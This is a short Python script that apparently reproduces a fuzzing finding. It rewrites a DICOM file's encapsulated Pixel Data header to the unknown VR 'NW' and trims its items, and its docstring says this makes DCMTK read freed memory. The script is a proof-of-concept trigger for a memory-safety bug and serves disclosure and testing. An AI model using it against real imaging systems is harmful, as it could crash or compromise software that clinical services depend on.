#!/usr/bin/env python3
"""Rebuilds fuzzing finding 9: encapsulated Pixel Data whose VR is not one DICOM knows.

Takes an explicit-VR file with encapsulated (undefined-length) Pixel Data, e.g. pydicom's
rtdose_rle_1frame.dcm, and writes a copy whose Pixel Data element header says VR "NW". DCMTK
reads an unknown VR as UN and, the length being undefined, parses the element as a sequence
(CP-246), its items as data sets (so only an empty basic offset table is kept): the data set's
(7FE0,0010) is then no DcmPixelData, and treating it as one read freed memory.

Usage: pixel_data_unknown_vr.py SOURCE OUT
"""
import sys

source, out = sys.argv[1], sys.argv[2]
data = bytearray(open(source, "rb").read())
header = data.rfind(b"\xe0\x7f\x10\x00")
if header < 0 or data[header + 8:header + 12] != b"\xff\xff\xff\xff" or data[header + 4:header + 6] not in (b"OB", b"OW"):
    sys.exit(f"{source}: no encapsulated Pixel Data of VR OB or OW with undefined length")
data[header + 4:header + 6] = b"NW"
# Its items then hold data sets: keep one empty item (the basic offset table) and the delimiter.
data = data[:header + 12] + b"\xfe\xff\x00\xe0" + bytes(4) + b"\xfe\xff\xdd\xe0" + bytes(4)
open(out, "wb").write(data)
